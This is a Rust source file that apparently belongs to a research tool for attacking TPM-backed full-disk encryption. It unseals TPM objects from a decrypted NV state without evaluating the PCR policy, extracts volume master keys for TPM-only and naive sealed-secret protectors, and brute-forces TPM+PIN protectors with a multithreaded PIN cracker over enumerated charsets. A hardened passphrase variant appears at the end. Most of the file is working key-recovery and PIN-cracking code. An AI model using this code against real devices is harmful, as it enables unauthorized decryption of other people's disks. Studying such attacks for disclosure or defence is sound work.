// SPDX-License-Identifier: Apache-2.0

//! Key recovery for TPM-only, TPM+PIN and naive sealed-secret protectors,
//! given the decrypted NV state that caches the primary seed.

use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD;
use base64::Engine;

use super::{split_tpm_encoded_datum, stretch_pin, CcmBlob, Datum, DatumType, FdeError, StretchParams, TpmEncodedParts, VolumeMetadata};
use crate::crypto::{aes_ccm, fixed_bytes, CryptoError, sha256, Direction, SymKey128};
use crate::tpm::{find_primary_seed, unseal_object, SeedMatch, TpmSensitive};

fixed_bytes!(
    /// Volume master key.
    Vmk,
    32
);

pub const SEALED_SECRET_LEN: usize = 32;

/// Finds the primary seed for `parts` and unseals it. The PCR policy is
/// carried along but never evaluated.
pub fn unseal_parts(
    parts: &TpmEncodedParts,
    nv_plaintext: &[u8],
) -> Result<(SeedMatch, TpmSensitive), FdeError> {
    let found = find_primary_seed(nv_plaintext, &parts.public, &parts.private)?;
    let sensitive = unseal_object(&parts.public, &parts.private, &found.seed)?;
    Ok((found, sensitive))
}

/// The VMK is the last 32 bytes of the inner datum's payload.
fn vmk_from_inner_datum(raw: &[u8]) -> Result<Vmk, FdeError> {
    let inner = Datum::parse(raw)?;
    let payload = &inner.payload;
    if payload.len() < Vmk::LEN {
        return Err(FdeError::FormatError(format!(
            "inner datum payload of {} bytes cannot hold a VMK",
            payload.len()
        )));
    }
    Ok(Vmk::from_slice(&payload[payload.len() - Vmk::LEN..]).expect("32 bytes"))
}

pub fn extract_vmk_tpm_only(datum: &Datum, nv_plaintext: &[u8]) -> Result<Vmk, FdeError> {
    if datum.datum_type != DatumType::TpmEncoded {
        return Err(FdeError::FormatError(format!("{:?} datum is not TPM-encoded", datum.datum_type)));
    }
    let parts = split_tpm_encoded_datum(datum)?;
    let (_, sensitive) = unseal_parts(&parts, nv_plaintext)?;
    vmk_from_inner_datum(&sensitive.sensitive_data)
}

/// CCM key for the TPM+PIN protector: both factors are hashed together.
pub fn pin_protector_key(unsealed: &[u8; 32], stretched: &[u8; 32]) -> SymKey128 {
    let mut input = [0u8; 64];
    input[..32].copy_from_slice(unsealed);
    input[32..].copy_from_slice(stretched);
    SymKey128::from_slice(&sha256(&input).as_bytes()[..16]).expect("16 bytes")
}

/// TPM+PIN state after the TPM half has been defeated: only the PIN is
/// still needed.
#[derive(Debug, Clone)]
pub struct PinCracker {
    unsealed: [u8; 32],
    params: StretchParams,
    blob: CcmBlob,
}

impl PinCracker {
    pub fn prepare(metadata: &VolumeMetadata, nv_plaintext: &[u8]) -> Result<Self, FdeError> {
        let parts = split_tpm_encoded_datum(metadata.require(DatumType::TpmEncoded)?)?;
        let params = StretchParams::from_bytes(&metadata.require(DatumType::Stretch)?.payload)?;
        let blob = CcmBlob::from_bytes(&metadata.require(DatumType::AesCcmBlob)?.payload)?;
        let (_, sensitive) = unseal_parts(&parts, nv_plaintext)?;
        let unsealed: [u8; 32] = sensitive.sensitive_data.as_slice().try_into().map_err(|_| {
            FdeError::FormatError(format!(
                "unsealed TPM+PIN material is {} bytes, expected 32",
                sensitive.sensitive_data.len()
            ))
        })?;
        Ok(Self {
            unsealed,
            params,
            blob,
        })
    }

    pub fn stretch_params(&self) -> &StretchParams {
        &self.params
    }

    /// A wrong PIN always surfaces as [`FdeError::WrongPin`].
    pub fn try_pin(&self, pin: &str) -> Result<Vmk, FdeError> {
        let stretched = stretch_pin(pin, &self.params)?;
        let key = pin_protector_key(&self.unsealed, &stretched);
        let inner = aes_ccm(&key, &self.blob.nonce, b"", &self.blob.sealed, Direction::Decrypt)
            .map_err(|_| FdeError::WrongPin)?;
        vmk_from_inner_datum(&inner)
    }
}

pub fn extract_vmk_tpm_pin(
    metadata: &VolumeMetadata,
    nv_plaintext: &[u8],
    pin: &str,
) -> Result<Vmk, FdeError> {
    if pin.is_empty() {
        return Err(FdeError::InvalidPin);
    }
    PinCracker::prepare(metadata, nv_plaintext)?.try_pin(pin)
}

#[derive(Debug, Clone, PartialEq)]
pub struct CrackOutcome {
    pub pin: String,
    pub vmk: Vmk,
    pub attempts: u64,
    pub elapsed: Duration,
}

impl CrackOutcome {
    /// Guesses per second over the whole run.
    pub fn rate(&self) -> f64 {
        self.attempts as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Tries `candidates` in order and returns the first PIN that opens the
/// CCM blob.
///
/// With `workers > 1` candidates are evaluated in batches across threads.
/// The earliest match in candidate order still wins; `attempts` then counts
/// every evaluation completed when the batch finished, so it can exceed the
/// match's 1-based index.
pub fn brute_force_pin<I>(
    metadata: &VolumeMetadata,
    nv_plaintext: &[u8],
    candidates: I,
    workers: usize,
) -> Result<CrackOutcome, FdeError>
where
    I: IntoIterator<Item = String>,
{
    let cracker = PinCracker::prepare(metadata, nv_plaintext)?;
    cracker.run(candidates, workers)
}

impl PinCracker {
    pub fn run<I>(&self, candidates: I, workers: usize) -> Result<CrackOutcome, FdeError>
    where
        I: IntoIterator<Item = String>,
    {
        let start = Instant::now();
        let mut attempts = 0u64;
        let workers = workers.max(1);
        let mut candidates = candidates.into_iter();

        if workers == 1 {
            for pin in candidates {
                attempts += 1;
                match self.try_pin(&pin) {
                    Ok(vmk) => {
                        return Ok(CrackOutcome { pin, vmk, attempts, elapsed: start.elapsed() })
                    }
                    Err(FdeError::WrongPin | FdeError::InvalidPin) => {}
                    Err(e) => return Err(e),
                }
            }
            return Err(FdeError::Exhausted { attempts });
        }

        loop {
            let batch: Vec<String> = candidates.by_ref().take(workers * 4).collect();
            if batch.is_empty() {
                return Err(FdeError::Exhausted { attempts });
            }
            let results: Vec<Result<Vmk, FdeError>> = std::thread::scope(|scope| {
                let handles: Vec<_> = (0..workers)
                    .map(|w| {
                        let batch = &batch;
                        scope.spawn(move || {
                            batch
                                .iter()
                                .enumerate()
                                .filter(|(i, _)| i % workers == w)
                                .map(|(i, pin)| (i, self.try_pin(pin)))
                                .collect::<Vec<_>>()
                        })
                    })
                    .collect();
                let mut ordered: Vec<Option<Result<Vmk, FdeError>>> = vec![None; batch.len()];
                for handle in handles {
                    for (i, result) in handle.join().expect("worker panicked") {
                        ordered[i] = Some(result);
                    }
                }
                ordered.into_iter().map(|r| r.expect("every index evaluated")).collect()
            });
            attempts += batch.len() as u64;
            for (pin, result) in batch.into_iter().zip(results) {
                match result {
                    Ok(vmk) => return Ok(CrackOutcome { pin, vmk, attempts, elapsed: start.elapsed() }),
                    Err(FdeError::WrongPin | FdeError::InvalidPin) => {}
                    Err(e) => return Err(e),
                }
            }
        }
    }
}

/// Candidate PINs over a fixed charset and length, in ascending order of
/// charset position (`"0000"`, `"0001"`, ... for digits).
#[derive(Debug, Clone)]
pub struct PinSpace {
    charset: Vec<char>,
    digits: Vec<usize>,
    done: bool,
}

pub const DIGITS: &str = "0123456789";
pub const LOWERCASE: &str = "abcdefghijklmnopqrstuvwxyz";
pub const ALPHANUMERIC: &str = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

impl PinSpace {
    pub fn new(charset: &str, length: usize) -> Result<Self, FdeError> {
        let mut chars: Vec<char> = Vec::new();
        for c in charset.chars() {
            if !chars.contains(&c) {
                chars.push(c);
            }
        }
        if chars.is_empty() || length == 0 {
            return Err(FdeError::InvalidPin);
        }
        Ok(Self {
            charset: chars,
            digits: vec![0; length],
            done: false,
        })
    }

    pub fn digits(length: usize) -> Result<Self, FdeError> {
        Self::new(DIGITS, length)
    }

    /// Named charsets: `digits`, `lower`, `alnum`.
    pub fn named(name: &str, length: usize) -> Result<Self, FdeError> {
        let charset = match name {
            "digits" => DIGITS,
            "lower" => LOWERCASE,
            "alnum" => ALPHANUMERIC,
            other => return Err(FdeError::FormatError(format!("unknown charset {other:?}"))),
        };
        Self::new(charset, length)
    }

    /// Total number of candidates, saturating.
    pub fn size(&self) -> u64 {
        (self.charset.len() as u64).saturating_pow(self.digits.len() as u32)
    }
}

impl Iterator for PinSpace {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        if self.done {
            return None;
        }
        let out = self.digits.iter().map(|&d| self.charset[d]).collect();
        let radix = self.charset.len();
        let mut carried = true;
        for d in self.digits.iter_mut().rev() {
            *d += 1;
            if *d < radix {
                carried = false;
                break;
            }
            *d = 0;
        }
        self.done = carried;
        Some(out)
    }
}

/// The sealed secret, base64-encoded, is the volume passphrase. Any PIN on
/// the sealed object is an authorization check only and is not needed.
pub fn extract_key_naive(metadata: &VolumeMetadata, nv_plaintext: &[u8]) -> Result<String, FdeError> {
    let parts = split_tpm_encoded_datum(metadata.require(DatumType::SealedSecret)?)?;
    let (_, sensitive) = unseal_parts(&parts, nv_plaintext)?;
    if sensitive.sensitive_data.len() != SEALED_SECRET_LEN {
        return Err(FdeError::FormatError(format!(
            "sealed secret of {} bytes, expected {SEALED_SECRET_LEN}",
            sensitive.sensitive_data.len()
        )));
    }
    Ok(STANDARD.encode(&sensitive.sensitive_data))
}

/// Passphrase for the hardened variant: the PIN becomes part of the
/// passphrase, so the unsealed secret alone no longer opens the keyslot.
pub fn mitigated_naive_key(sealed_secret: &[u8; SEALED_SECRET_LEN], pin: &str) -> Result<String, FdeError> {
    if pin.is_empty() {
        return Err(FdeError::InvalidPin);
    }
    Ok(format!("{}:{pin}", STANDARD.encode(sealed_secret)))
}
